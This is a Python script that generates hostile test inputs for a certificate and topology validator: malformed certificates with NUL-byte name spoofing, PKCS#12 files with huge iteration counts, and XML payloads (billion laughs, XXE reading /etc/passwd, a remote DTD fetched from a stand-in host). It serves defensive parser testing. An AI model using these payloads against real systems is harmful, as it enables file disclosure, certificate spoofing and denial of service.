#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Write the hostile inputs of tests/hostile (README.md in this directory) into OUTDIR.

  mkhostile.py OUTDIR

Certificates are DER-encoded here, byte by byte, so that they can be wrong in exactly the way a
case needs (a NUL inside a name, invalid UTF-8, 10,000 SAN entries, a BER length), and signed
with throwaway ECDSA P-256 keys made at each run (python3-cryptography). PKCS#12 files are
written here too (PBES2/PBKDF2-SHA256/AES-256-CBC keys, an HMAC-SHA256 MAC with the PKCS#12
key derivation of RFC 7292 appendix B), so that each iteration count can be set on its own.
Nothing is committed: the test suite runs this at build time.
"""
import datetime
import hashlib
import hmac
import json
import os
import sys

from cryptography.hazmat.backends import default_backend
from cryptography.hazmat.primitives import hashes, padding, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from der import ctx, integer, octets, oid, seq, set_, tlv  # noqa: E402  (tests/der.py)

BACKEND = default_backend()
PASSWORD = "Hostile-P@ss w0rd"

# ---- DER -----------------------------------------------------------------------------------


def utctime(t):
    return tlv(0x17, t.strftime("%y%m%d%H%M%SZ").encode())


def boolean(v):
    return tlv(0x01, b"\xff" if v else b"\x00")


def bitstring(b):
    return tlv(0x03, b"\x00" + b)


OID_CN = "2.5.4.3"
OID_O = "2.5.4.10"
ECDSA_SHA256 = seq(oid("1.2.840.10045.4.3.2"))


def name(*rdns, string_tag=0x0C):
    """rdns: (oid, value bytes) pairs, each its own RDN."""
    return seq(*[set_(seq(oid(o), tlv(string_tag, v))) for o, v in rdns])


def ext(o, value, critical=False):
    return seq(oid(o), *( [boolean(True)] if critical else []), octets(value))


def san(names_bytes, tag=0x82):
    return ext("2.5.29.17", seq(*[tlv(tag, n) for n in names_bytes]))


def eku(oids):
    return ext("2.5.29.37", seq(*[oid(o) for o in oids]))


def ku(bits):
    # digitalSignature (0), keyCertSign (5), cRLSign (6)
    v = 0
    for b in bits:
        v |= 0x80 >> b
    return ext("2.5.29.15", tlv(0x03, b"\x01" + bytes([v])), critical=True)


def bc(ca):
    return ext("2.5.29.19", seq(boolean(True)) if ca else seq(), critical=True)


class Key:
    def __init__(self):
        self.priv = ec.generate_private_key(ec.SECP256R1(), BACKEND)
        self.spki = self.priv.public_key().public_bytes(serialization.Encoding.DER,
                                                        serialization.PublicFormat.SubjectPublicKeyInfo)
        self.pkcs8 = self.priv.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
                                             serialization.NoEncryption())
        self.keyid = hashlib.sha1(self.spki).digest()

    def sign(self, data):
        return self.priv.sign(data, ec.ECDSA(hashes.SHA256()))


NOW = datetime.datetime(2026, 11, 24, 12, 0, 0)
NB = NOW - datetime.timedelta(days=30)
NA = NOW + datetime.timedelta(days=180)
_serial = [1000]


def cert(subject, issuer, key, issuer_key, extensions, serial=None, nb=NB, na=NA):
    if serial is None:
        _serial[0] += 1
        serial = _serial[0]
    exts = list(extensions) + [ext("2.5.29.14", octets(key.keyid)),
                               ext("2.5.29.35", seq(ctx(0, issuer_key.keyid, constructed=False)))]
    tbs = seq(ctx(0, integer(2)), integer(serial), ECDSA_SHA256, issuer,
              seq(utctime(nb), utctime(na)), subject, key.spki, ctx(3, seq(*exts)))
    return seq(tbs, ECDSA_SHA256, bitstring(issuer_key.sign(tbs)))


def leaf_exts(names_bytes):
    return [bc(False), ku([0]), eku(["1.3.6.1.5.5.7.3.1", "1.3.6.1.5.5.7.3.2"]),
            ext("2.5.29.31", seq(seq(ctx(0, ctx(0, tlv(0x86, b"http://pki.contoso.com/hostile.crl")))))),
            san(names_bytes)]


def ca_exts():
    return [bc(True), ku([0, 5, 6])]


def pem(der, label="CERTIFICATE"):
    import base64
    b = base64.encodebytes(der).decode().replace("\n", "")
    return ("-----BEGIN %s-----\n" % label + "\n".join(b[i:i + 64] for i in range(0, len(b), 64)) +
            "\n-----END %s-----\n" % label).encode()


# ---- PKCS#12 --------------------------------------------------------------------------------


def p12_kdf(password, salt, iterations, id_byte, n):
    """RFC 7292 appendix B.2 with SHA-256 (u = 32, v = 64)."""
    u, v = 32, 64
    pw = (password.encode("utf-16-be") + b"\x00\x00") if password is not None else b""
    D = bytes([id_byte]) * v
    S = (salt * ((v * ((len(salt) + v - 1) // v)) // len(salt) + 1))[: v * ((len(salt) + v - 1) // v)] if salt else b""
    P = (pw * ((v * ((len(pw) + v - 1) // v)) // len(pw) + 1))[: v * ((len(pw) + v - 1) // v)] if pw else b""
    I = bytearray(S + P)
    out = b""
    while len(out) < n:
        A = D + bytes(I)
        for _ in range(iterations):
            A = hashlib.sha256(A).digest()
        out += A
        B = (A * (v // u + 1))[:v]
        Bn = int.from_bytes(B, "big") + 1
        for j in range(0, len(I), v):
            x = (int.from_bytes(I[j:j + v], "big") + Bn) % (1 << (8 * v))
            I[j:j + v] = x.to_bytes(v, "big")
    return out[:n]


def pbes2(password, plain, iterations, salt_len=16, scheme=None):
    salt = os.urandom(salt_len)
    iv = os.urandom(16)
    key = PBKDF2HMAC(hashes.SHA256(), 32, salt, min(iterations, 2048), BACKEND).derive(password.encode())
    p = padding.PKCS7(128).padder()
    data = p.update(plain) + p.finalize()
    enc = Cipher(algorithms.AES(key), modes.CBC(iv), BACKEND).encryptor()
    ct = enc.update(data) + enc.finalize()
    alg = seq(oid(scheme or "1.2.840.113549.1.5.13"),
              seq(seq(oid("1.2.840.113549.1.5.12"),
                      seq(octets(salt), integer(iterations), seq(oid("1.2.840.113549.2.9"), tlv(0x05, b"")))),
                  seq(oid("2.16.840.1.101.3.4.1.42"), octets(iv))))
    return alg, ct


def pfx(certs, key, password=PASSWORD, mac_iter=2048, key_iter=2048, bag_iter=None, ncontents=None,
        bag_salt_len=16, bag_scheme=None, nencrypted=1, nkeys=1):
    """certs: DER list (leaf first); key: Key or None. bag_iter: put the certificates in an
    encrypted ContentInfo with that iteration count (the ciphertext is only valid up to 2048),
    with a salt of bag_salt_len bytes and the scheme OID bag_scheme (PBES2 if None), nencrypted
    times; nkeys: the key's shrouded bag, that many times."""
    local_id = tlv(0x31, seq(oid("1.2.840.113549.1.9.21"), set_(octets(b"\x01\x02\x03\x04"))))
    cert_bags = []
    for i, c in enumerate(certs):
        attrs = [ctx(0, seq(oid("1.2.840.113549.1.9.22.1"), ctx(0, octets(c))))]
        bag = seq(oid("1.2.840.113549.1.12.10.1.3"), *attrs,
                  *([set_(seq(oid("1.2.840.113549.1.9.21"), set_(octets(b"\x01\x02\x03\x04"))))] if i == 0 else []))
        cert_bags.append(bag)
    contents = []
    safe_certs = seq(*cert_bags)
    if bag_iter is not None:
        for _ in range(nencrypted):
            alg, ct = pbes2(password, safe_certs, bag_iter, bag_salt_len, bag_scheme)
            contents.append(seq(oid("1.2.840.113549.1.7.6"),
                                ctx(0, seq(integer(0), seq(oid("1.2.840.113549.1.7.1"), alg, ctx(0, ct, constructed=False))))))
    else:
        contents.append(seq(oid("1.2.840.113549.1.7.1"), ctx(0, octets(safe_certs))))
    if key is not None:
        alg, ct = pbes2(password, key.pkcs8, key_iter)
        kbag = seq(oid("1.2.840.113549.1.12.10.1.2"), ctx(0, seq(alg, octets(ct))),
                   set_(seq(oid("1.2.840.113549.1.9.21"), set_(octets(b"\x01\x02\x03\x04")))))
        contents.append(seq(oid("1.2.840.113549.1.7.1"), ctx(0, octets(seq(*[kbag] * nkeys)))))
    if ncontents:
        empty = seq(oid("1.2.840.113549.1.7.1"), ctx(0, octets(seq())))
        contents += [empty] * ncontents
    auth_safe = seq(*contents)
    salt = os.urandom(8)
    mac_key = p12_kdf(password, salt, min(mac_iter, 2048), 3, 32)
    mac = hmac.new(mac_key, auth_safe, hashlib.sha256).digest()
    mac_data = seq(seq(seq(oid("2.16.840.1.101.3.4.2.1"), tlv(0x05, b"")), octets(mac)), octets(salt), integer(mac_iter))
    return seq(integer(3), seq(oid("1.2.840.113549.1.7.1"), ctx(0, octets(auth_safe))), mac_data)


# ---- the cases ------------------------------------------------------------------------------


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)

    def write(fn, data):
        with open(os.path.join(out, fn), "wb") as f:
            f.write(data)

    root_key, ca_key, leaf_key = Key(), Key(), Key()
    root_name = name((OID_CN, b"Hostile Test Root"), (OID_O, b"Contoso"))
    ca_name = name((OID_CN, b"Hostile Issuing CA"), (OID_O, b"Contoso"))
    root = cert(root_name, root_name, root_key, root_key, ca_exts())
    ca = cert(ca_name, root_name, ca_key, root_key, ca_exts())
    write("root.pem", pem(root))
    write("ca.pem", pem(ca))

    def leaf(cn, sans, tag=0x0C, k=leaf_key):
        return cert(name((OID_CN, cn), (OID_O, b"Contoso"), string_tag=tag), ca_name, k, ca_key, leaf_exts(sans))

    good = leaf(b"exch01.contoso.com", [b"exch01.contoso.com"])
    write("good.pem", pem(good) + pem(ca))
    write("good.der", good)
    # Truncated and trailing-garbage DER; BER indefinite length around a certificate.
    write("truncated.der", good[: len(good) // 2])
    write("truncated-1.der", good[:-1])
    write("trailing-garbage.der", good + b"GARBAGE!")
    write("trailing-garbage.pem", pem(good + b"\x05\x00"))
    body = good[2 + (good[1] & 0x7F if good[1] & 0x80 else 0):]
    write("ber-indefinite.der", b"\x30\x80" + body + b"\x00\x00")
    p7 = lambda certs_: seq(oid("1.2.840.113549.1.7.2"), ctx(0, seq(integer(1), set_(), seq(oid("1.2.840.113549.1.7.1")),
                                                                     ctx(0, b"".join(certs_)), set_())))
    write("good.p7b", p7([ca, good]))
    inner = seq(integer(1), set_(), seq(oid("1.2.840.113549.1.7.1")), b"\xa0\x80" + ca + good + b"\x00\x00", set_())
    write("ber-indefinite.p7b", b"\x30\x80" + oid("1.2.840.113549.1.7.2") + b"\xa0\x80" +
          b"\x30\x80" + inner[2 + (inner[1] & 0x7F if inner[1] & 0x80 else 0):] + b"\x00\x00" + b"\x00\x00" + b"\x00\x00")
    # NUL bytes inside CN and SAN.
    nul = b"exch01.contoso.com\x00.evil.com"
    write("nul-cn-san.pem", pem(leaf(nul, [nul])) + pem(ca))
    write("nul-san-only.pem", pem(leaf(b"exch01.contoso.com", [nul])) + pem(ca))
    # Invalid UTF-8, mixed-case punycode.
    write("bad-utf8.pem", pem(leaf(b"exch01\xff\xfe.contoso.com", [b"b\xc3.contoso.com", b"\xe2\x82\x28.contoso.com"])) + pem(ca))
    write("punycode-mixed.pem", pem(leaf(b"XN--BCHER-KVA.Contoso.COM", [b"XN--BCHER-KVA.Contoso.COM"])) + pem(ca))
    # Wildcard tricks.
    tricks = [b"*.*.com", b"*.com", b"xn--*.contoso.com", b"*.co.uk", b"ex*.contoso.com", b"*", b"*.contoso.*"]
    write("wildcard-tricks.pem", pem(leaf(b"exch01.contoso.com", tricks)) + pem(ca))
    write("wildcard-cn-com.pem", pem(leaf(b"*.com", [b"*.com"])) + pem(ca))
    # SAN sizes for the linearity measurement, and 10,000 invalid names (10,000 findings).
    for n in (1, 10, 100, 1000, 10000):
        names = [b"exch01.contoso.com"] + [b"h%d.contoso.com" % i for i in range(1, n)]
        write("san-%d.pem" % n, pem(leaf(b"exch01.contoso.com", names)) + pem(ca))
    write("san-invalid-10000.pem", pem(leaf(b"exch01.contoso.com", [b"exch01.contoso.com"] +
                                            [b"bad_%d.contoso.com" % i if i % 2 else b"xn--h%d.contoso.com" % i
                                             for i in range(10000)])) + pem(ca))
    # The most SAN entries accepted (20,000), errors and warnings interleaved, and one more.
    write("san-max-20000.pem", pem(leaf(b"exch01.contoso.com", [b"bad_%d.contoso.com" % i if i % 2 else b"host%d" % i
                                                              for i in range(20000)])) + pem(ca))
    write("san-over-limit.pem", pem(leaf(b"exch01.contoso.com", [b"h%d.contoso.com" % i for i in range(20001)])) + pem(ca))
    # Many subject CNs, many EKUs, many extensions.
    for n in (10, 100, 1000):
        many_cn = seq(*[set_(seq(oid(OID_CN), tlv(0x0C, b"cn%d.contoso.com" % i))) for i in range(n)])
        write("cn-%d.pem" % n, pem(cert(many_cn, ca_name, leaf_key, ca_key, leaf_exts([b"exch01.contoso.com"]))) + pem(ca))
        ekus = ["1.3.6.1.5.5.7.3.1"] + ["1.3.6.1.4.1.311.%d" % i for i in range(n)]
        write("eku-%d.pem" % n, pem(cert(name((OID_CN, b"exch01.contoso.com")), ca_name, leaf_key, ca_key,
                                         [bc(False), ku([0]), eku(ekus), san([b"exch01.contoso.com"])])) + pem(ca))
        exts = [bc(False), ku([0]), eku(["1.3.6.1.5.5.7.3.1"]), san([b"exch01.contoso.com"])] + \
               [ext("1.3.6.1.4.1.99999.%d" % i, octets(b"x")) for i in range(n)]
        write("ext-%d.pem" % n, pem(cert(name((OID_CN, b"exch01.contoso.com")), ca_name, leaf_key, ca_key, exts)) + pem(ca))
    # A bundle of 10,000 certificates: the leaf, its CA, then 9,998 others (same subject as
    # the CA for half of them: look-alike issuers).
    other_key = Key()
    parts = [pem(good), pem(ca)]
    for i in range(9998):
        subj = ca_name if i % 2 else name((OID_CN, b"Other %d" % i))
        parts.append(pem(cert(subj, root_name, other_key, root_key, ca_exts())))
    write("bundle-10000.pem", b"".join(parts))
    # A chain 100 deep: leaf <- CA 99 <- ... <- CA 1 <- root.
    deep_keys = [Key() for _ in range(100)]
    prev_name, prev_key = root_name, root_key
    chain = []
    for i in range(1, 100):
        n_ = name((OID_CN, b"Deep CA %d" % i))
        chain.append(cert(n_, prev_name, deep_keys[i], prev_key, ca_exts()))
        prev_name, prev_key = n_, deep_keys[i]
    deep_leaf = cert(name((OID_CN, b"exch01.contoso.com")), prev_name, leaf_key, prev_key,
                     leaf_exts([b"exch01.contoso.com"]))
    write("chain-100.pem", pem(deep_leaf) + b"".join(pem(c) for c in reversed(chain)))
    # An issuer cycle: A issued by B, B issued by A, the leaf issued by A.
    ka, kb = Key(), Key()
    na_, nb_ = name((OID_CN, b"Cycle CA A")), name((OID_CN, b"Cycle CA B"))
    a = cert(na_, nb_, ka, kb, ca_exts())
    b = cert(nb_, na_, kb, ka, ca_exts())
    cyc_leaf = cert(name((OID_CN, b"exch01.contoso.com")), na_, leaf_key, ka, leaf_exts([b"exch01.contoso.com"]))
    write("cycle.pem", pem(cyc_leaf) + pem(a) + pem(b))
    self_issuer = cert(na_, na_, kb, ka, ca_exts())  # claims A as issuer, signed by A's key, B's key inside
    write("cycle-self.pem", pem(cyc_leaf) + pem(self_issuer))
    # PKCS#12: wrong and empty passwords, huge iteration counts (MAC, encrypted bag, key).
    write("good.pfx", pfx([good, ca], leaf_key))
    write("empty-password.pfx", pfx([good, ca], leaf_key, password=""))
    write("huge-mac-iterations.pfx", pfx([good, ca], leaf_key, mac_iter=2000000000))
    write("huge-bag-iterations.pfx", pfx([good, ca], leaf_key, bag_iter=5000000))
    write("huge-bag-iterations-2e9.pfx", pfx([good, ca], leaf_key, bag_iter=2000000000))
    write("huge-key-iterations.pfx", pfx([good, ca], leaf_key, key_iter=5000000))
    write("contentinfos-100000.pfx", pfx([good, ca], leaf_key, ncontents=100000))
    # A 65-byte salt (GnuTLS's bag_enc_info() failed on it, and the 5,000,000 iterations went
    # unchecked); an encryption scheme that is none of the password-based ones; and a file within
    # every per-item limit whose sum is 71,002,048 iterations (63 encrypted ContentInfos and 8
    # keys at 1,000,000 each: 95 s of CPU before the per-file budget).
    write("big-salt-bag-iterations.pfx", pfx([good, ca], leaf_key, bag_iter=5000000, bag_salt_len=65))
    write("big-salt-bag.pfx", pfx([good, ca], leaf_key, bag_iter=2048, bag_salt_len=65))
    write("unknown-bag-scheme.pfx", pfx([good, ca], leaf_key, bag_iter=2048, bag_scheme="1.2.3.4.5"))
    write("budget-busting.pfx", pfx([good, ca], leaf_key, bag_iter=1000000, nencrypted=63, key_iter=1000000,
                                    nkeys=8))
    # PEM: an encrypted PKCS#8 key block asking for 5,000,000 iterations; nine key blocks.
    alg, ct = pbes2(PASSWORD, leaf_key.pkcs8, 5000000)
    write("huge-key-iterations.pem", pem(good) + pem(seq(alg, octets(ct)), "ENCRYPTED PRIVATE KEY"))
    # Five encrypted key blocks of 1,000,000 iterations each: within the per-key limit, over the
    # per-file budget of 4,000,000 (each would be decrypted in turn, a second or so each).
    blocks = b""
    for _ in range(5):
        a5, c5 = pbes2(PASSWORD, leaf_key.pkcs8, 1000000)
        blocks += pem(seq(a5, octets(c5)), "ENCRYPTED PRIVATE KEY")
    write("pem-budget.pem", pem(good) + blocks)
    write("keys-9.pem", pem(good) + pem(leaf_key.pkcs8, "PRIVATE KEY") * 9)
    with open(os.path.join(out, "password.txt"), "w") as f:
        f.write(PASSWORD + "\n")
    # Topology documents.
    write("topology-wrong-types.json", json.dumps({"fqdn": ["exch01.contoso.com"], "sipDomains": "contoso.com"}).encode())
    write("topology-wrong-item.json", b'{"sipDomains": ["contoso.com", 42]}')
    write("topology-deep.json", b'{"comment": ' + b"[" * 100000 + b"]" * 100000 + b"}")
    write("topology-deep-object.json", b'{"comment": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}")
    doms = ['"d%d.contoso.com"' % i for i in range(50000)]
    write("topology-50000-domains.json", ('{"fqdn": "exch01.contoso.com", "sipDomains": [' + ",".join(doms) + "]}").encode())
    # Topology XML (Topology Builder form): entity tricks, depth, size, foreign namespaces.
    tb_ns = b"urn:schema:Microsoft.Rtc.Management.Deploy.TopologyBuilder.2008"
    wt_ns = b"urn:schema:Microsoft.Rtc.Management.Deploy.WritableTopology.2008"

    def tb(body, prolog=b""):
        return (b'<?xml version="1.0" encoding="utf-8"?>\n' + prolog + b'<TopologyBuilder xmlns="' + tb_ns +
                b'"><NewTopology><PartialTopology xmlns="' + wt_ns + b'">' + body +
                b"</PartialTopology></NewTopology></TopologyBuilder>\n")
    lol = b"<!DOCTYPE TopologyBuilder [\n<!ENTITY lol0 \"lollollollollollollollollollol\">\n"
    for i in range(1, 10):
        lol += b"<!ENTITY lol%d \"" % i + b"&lol%d;" % (i - 1) * 10 + b"\">\n"
    lol += b"]>\n"
    write("topology-billion-laughs.tbxml",
          tb(b'<CentralSites><CentralSite><Clusters><Cluster UniqueId="1" Fqdn="&lol9;"/></Clusters>'
             b"</CentralSite></CentralSites>", lol))
    write("topology-xxe.tbxml",
          tb(b'<CentralSites><CentralSite><Clusters><Cluster UniqueId="1" Fqdn="x&xxe;.contoso.com"/></Clusters>'
             b"</CentralSite></CentralSites>",
             b'<!DOCTYPE TopologyBuilder [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'))
    write("topology-xxe-parameter.tbxml",
          tb(b"", b'<!DOCTYPE TopologyBuilder [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>\n'))
    write("topology-external-dtd.tbxml", tb(b"", b'<!DOCTYPE TopologyBuilder SYSTEM "file:///etc/passwd">\n'))
    write("topology-deep.tbxml", tb(b"<Services>" * 100000 + b"</Services>" * 100000))
    write("topology-not-xml.tbxml", b"<\x00\xff\xfe\x01garbage" + bytes(range(256)) * 4)
    write("topology-wrong-ns.tbxml", tb(b"").replace(tb_ns, b"urn:schema:Microsoft.Rtc.Management.Deploy.TopologyBuilder.2009"))
    write("topology-prefix-only.tbxml",
          b'<?xml version="1.0"?>\n<tb:TopologyBuilder xmlns:tb="urn:example:look-alike"/>\n')
    # 2,000 Front End servers, each its own pool with a Registrar (about 0.9 MB): loads.
    clusters = b"".join(b'<Cluster UniqueId="c%d" Fqdn="fe%d.contoso.com"><Machines><Machine Fqdn="fe%d.contoso.com"/>'
                        b"</Machines></Cluster>" % (i, i, i) for i in range(2000))
    services = b"".join(b'<Service RoleName="Registrar" InstalledOn="c%d" ServiceVersion="8"/>' % i for i in range(2000))
    write("topology-2000-servers.tbxml",
          tb(b"<CentralSites><CentralSite><Clusters>" + clusters + b"</Clusters></CentralSite></CentralSites>"
             b"<Services>" + services + b"</Services>"))
    # 10,001 pools: over the limit of 10,000.
    write("topology-10001-pools.tbxml",
          tb(b"<CentralSites><CentralSite><Clusters>" +
             b"".join(b'<Cluster UniqueId="c%d" Fqdn="p%d.contoso.com"/>' % (i, i) for i in range(10001)) +
             b"</Clusters></CentralSite></CentralSites>"))
    # 600,000 empty elements (4.2 MB): over the limit of 500,000 elements.
    write("topology-600000-elements.tbxml", tb(b"<Services>" + b"<x/>" * 600000 + b"</Services>"))
    # A CRL with 100,000 entries, signed by the issuing CA.
    revoked = b"".join(seq(integer(100000 + i), utctime(NB)) for i in range(100000))
    tbs = seq(integer(1), ECDSA_SHA256, ca_name, utctime(NOW - datetime.timedelta(days=1)),
              utctime(NOW + datetime.timedelta(days=7)), seq(revoked))
    write("crl-100000.crl", seq(tbs, ECDSA_SHA256, bitstring(ca_key.sign(tbs))))
    # For the online cases, whose certificates test-hostile makes at run time (their 60 CRL
    # distribution points name the port of the server it starts): the issuing CA's key, and a
    # 1.6 MB CRL of 40,000 entries of another CA, which a distribution point of a certificate of
    # the issuing CA must not make the check keep.
    write("ca.key", pem(ca_key.pkcs8, "PRIVATE KEY"))
    other_key = Key()
    other_name = name((OID_CN, b"Hostile Other CA"), (OID_O, b"Contoso"))
    revoked = b"".join(seq(integer(2**158 + i * 104729), utctime(NB)) for i in range(40000))
    tbs = seq(integer(1), ECDSA_SHA256, other_name, utctime(NOW - datetime.timedelta(days=1)),
              utctime(NOW + datetime.timedelta(days=7)), seq(revoked))
    write("crl-other-40000.crl", seq(tbs, ECDSA_SHA256, bitstring(other_key.sign(tbs))))
    # The leaf's own serial listed: it is revoked.
    good_serial = 1003  # root 1001, ca 1002, good 1003
    tbs = seq(integer(1), ECDSA_SHA256, ca_name, utctime(NOW - datetime.timedelta(days=1)),
              utctime(NOW + datetime.timedelta(days=7)), seq(seq(integer(good_serial), utctime(NB))))
    write("crl-revokes-good.crl", seq(tbs, ECDSA_SHA256, bitstring(ca_key.sign(tbs))))
    with open(sys.argv[2] if len(sys.argv) > 2 else os.path.join(out, "stamp"), "w") as f:
        f.write("ok\n")


if __name__ == "__main__":
    main()
